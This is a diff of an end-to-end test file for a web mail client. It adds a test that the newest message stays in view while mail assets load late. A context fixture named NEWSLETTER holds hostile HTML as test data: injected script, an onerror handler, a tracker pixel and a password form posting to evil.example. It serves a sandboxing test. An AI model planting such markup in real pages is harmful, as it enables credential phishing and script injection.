@@ -13,7 +13,7 @@ let smtp: SmtpReceiver;
 let page: Page;
 let watched: Watched;
 let mailbox: Any;
-const { connect, mail, stored, replied, settled, messageOf } = mailWords(
+const { connect, mail, stored, written, replied, settled, messageOf } = mailWords(
   () => parley,
   () => mailbox,
 );
@@ -51,6 +51,33 @@ const NEWSLETTER = `<html><body><h1>Sale</h1><table width="1400"><tr><td style="
 <script>document.title = "taken"</script><img src="https://tracker.example/pixel.png" onerror="parent.taken = true">
 <a href="https://shop.example/sale">To the sale</a><form action="https://evil.example"><input name="password"></form>
 <p>Best</p><blockquote><p>On Monday Bob wrote:</p><p>Send me offers</p></blockquote></body></html>`;
+
+it("the newest message stays in view when the parts of mail that are loaded later make the others longer", async () => {
+  const message = await stored(mail({ ...HTML, Subject: "Trip" }, "<p>One</p><blockquote><p>Before</p></blockquote>"));
+  for (let n = 2; n <= 12; n++)
+    await stored(mail({ "In-Reply-To": `<${message.email.message_id}>` }, `Line ${n}\n\n> old`));
+  await written(message, { body: "The newest", private: true });
+  let release = () => {};
+  const held = new Promise<void>((resolve) => {
+    release = resolve;
+  });
+  await page.route("**/assets/mail-message-*.js", async (route) => {
+    await held;
+    await route.continue();
+  });
+  await page.goto(`/w/1/inbox/${message.conversation_id}`);
+  const newest = article("The newest");
+  await newest.waitFor();
+  const isInView = async () => {
+    const [row, log] = [await newest.boundingBox(), await page.getByRole("log").boundingBox()];
+    return row !== null && log !== null && row.y + row.height <= log.y + log.height;
+  };
+  await expect.poll(isInView).toBe(true);
+  release();
+  await article("Line 12").getByText("To support@shop.example").waitFor();
+  await expect.poll(isInView).toBe(true);
+  await page.unroute("**/assets/mail-message-*.js");
+});
 
 it("a newsletter is shown in a frame where nothing runs or loads, and scrolls in it, not in the thread", async () => {
   const message = await stored(mail({ ...HTML, Subject: "Sale" }, NEWSLETTER));
